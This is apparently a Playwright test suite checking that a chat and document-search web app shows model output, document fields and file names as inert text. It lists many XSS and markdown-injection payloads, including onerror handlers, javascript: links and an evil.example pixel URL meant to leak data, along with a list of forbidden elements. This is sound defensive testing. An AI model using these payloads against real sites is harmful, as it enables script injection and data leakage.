import type { Page } from 'playwright-core';
import { afterAll, expect, it } from 'vitest';
import { createScriptedServer, type ScriptedServer } from '../support/scripted-server.ts';
import { streamed } from './support/answers.ts';
import { describePage } from './support/page.ts';

/** Each would set `window.pwned`, ask a foreign server, or change the page, if any of it were taken for more than text. */
const ATTACKS = [
  '<script>window.pwned = 1</script>',
  '<img src=x onerror="window.pwned = 2">',
  '<svg/onload=window.pwned=3>',
  '<iframe srcdoc="<script>parent.pwned = 4</script>"></iframe>',
  '<a href="javascript:window.pwned=5">html link</a>',
  '<style>body { display: none }</style>',
  '<link rel=stylesheet href=https://evil.example/a.css><base href=https://evil.example/>',
  '<form action=https://evil.example/><input name=q autofocus onfocus=window.pwned=6></form>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=window.pwned=7&gt;">',
  '"><details open ontoggle=window.pwned=8>',
];

const MARKDOWN_ATTACKS = [
  '[script link](javascript:window.pwned=9)',
  '[spaced link]( java\tscript:window.pwned=10 )',
  '[entity link](&#106;avascript:window.pwned=11)',
  '[data link](data:text/html,<script>window.pwned=12</script>)',
  '[vbscript link](vbscript:x)',
  '![picture](https://evil.example/pixel.png?leak=1)',
  '![x](x"onerror="window.pwned=13)',
  '<https://evil.example/auto>',
  '`<img src=x onerror=window.pwned=14>`',
  '```html"onmouseover="window.pwned=15\n<script>window.pwned = 16</script>\n```',
  '| <img src=x onerror=window.pwned=17> | b |\n| --- | --- |\n| <script>window.pwned=18</script> | c |',
  '[1]: javascript:window.pwned=19 "x"\n\nA [reference][1].',
];

let upstream: ScriptedServer;

async function toYaml(): Promise<string> {
  upstream = await createScriptedServer(streamed('Nothing.'));
  return `agents: [{ name: a, provider: openai, model: gpt-4o-mini, api_key: k, endpoint: "${upstream.origin}/v1" }]`;
}

// That nothing is asked of other servers, that the policy is not broken and that no dialog opens holds for every test
// of the page: see `openPage`.
describePage('what comes from models and documents', toYaml, (visit) => {
  afterAll(() => upstream.close());

  it('is text, whatever a model says', async () => {
    const page = await visit.open();
    upstream.reply(streamed(...[...ATTACKS, ...MARKDOWN_ATTACKS].map((attack) => `${attack}\n\n`)));
    await ask(page, 'Attack');
    const prose = page.locator('.prose');
    await prose.locator('table').waitFor();
    for (const attack of ATTACKS.slice(0, 4)) await prose.getByText(attack).first().waitFor();
    await expectUnharmed(page, '.prose');
    const targets = await page.evaluate("[...document.querySelectorAll('.prose a')].map(({ href }) => href)");
    expect(targets).toEqual(['https://evil.example/pixel.png?leak=1', 'https://evil.example/auto']);
    expect(await prose.locator('a:not([rel="noopener noreferrer"])').count()).toBe(0);
  });

  it('is text while it is only half there', async () => {
    const page = await visit.open();
    const cut = ATTACKS.flatMap((attack) => [attack.slice(0, 9), attack.slice(9, 14), `${attack.slice(14)}\n\n`]);
    upstream.reply(streamed(...cut));
    await ask(page, 'Attack in pieces');
    await page.locator('.answer-foot').waitFor();
    await expectUnharmed(page, '.prose');
  });

  it('is text in titles, names, metadata and passages of documents', async () => {
    const page = await visit.open('search');
    const documents = ATTACKS.map((attack, index) => ({
      id: `attack ${index} ${attack.replaceAll('/', '|')}`.slice(0, 200),
      title: attack,
      source: attack,
      text: `Marmalade ${attack} and more of it.`,
      metadata: { note: attack, list: [attack] },
    }));
    const stored = await page.request.post(new URL('/v1/documents', page.url()).href, { data: { documents } });
    expect(stored.status()).toBe(200);
    await page.getByRole('searchbox').fill('marmalade');
    await page.getByRole('spinbutton', { name: 'Results' }).fill('20');
    await page.keyboard.press('Enter');
    await expect.poll(() => page.locator('.result').count()).toBe(ATTACKS.length);
    await expectUnharmed(page, '.results');

    await page.goto(page.url().replace('#search', '#chat'));
    await page.getByRole('switch', { name: 'Answer from documents' }).check();
    upstream.reply(streamed('As the passage says [1].'));
    await ask(page, 'What of the marmalade?');
    await page.locator('.cite').click();
    await page.getByRole('dialog').getByText('Marmalade').waitFor();
    await expectUnharmed(page, 'dialog');
  });

  it('is text in names of files, and such a file is a document like any other', async () => {
    const page = await visit.open('documents');
    const name = '<img src=x onerror=window.pwned=20>.txt';
    await page
      .getByLabel('Files to upload')
      .setInputFiles([{ name, mimeType: 'text/plain', buffer: Buffer.from('A text.') }]);
    const row = page.locator('.entry').filter({ hasText: name });
    await row.getByText('Ready').waitFor();
    await page.reload();
    await row.getByText('Ready').waitFor();
    await expectUnharmed(page, '.entries');
  });

  it('is kept from foreign pages: the page cannot be framed', async () => {
    const page = await visit.open();
    const host = await createScriptedServer({
      headers: { 'content-type': 'text/html' },
      body: `<iframe src="${visit.gateway.url}/"></iframe>`,
    });
    const context = await page.context().browser()?.newContext();
    const framing = await context?.newPage();
    await framing?.goto(host.origin);
    await expect.poll(() => framing?.frames()[1]?.url()).toMatch(/^chrome-error:/);
    await context?.close();
    await host.close();
  });
});

async function ask(page: Page, question: string): Promise<void> {
  await page.getByRole('textbox', { name: 'Your question' }).fill(question);
  await page.keyboard.press('Enter');
}

/** Nothing ran, and nothing became an element that an attack had written. */
async function expectUnharmed(page: Page, place: string): Promise<void> {
  expect(await page.evaluate('window.pwned')).toBeUndefined();
  const foreign =
    'script, img, iframe, style, link, base, form, input, math, object, embed, [onerror], [onload], [srcdoc]';
  expect(await page.locator(place).locator(foreign).count()).toBe(0);
  expect(await page.locator(place).locator('a[href^="javascript"], a[href^="data"], a[href^="vbscript"]').count()).toBe(
    0,
  );
  expect(await page.locator('.shell').isVisible()).toBe(true);
}
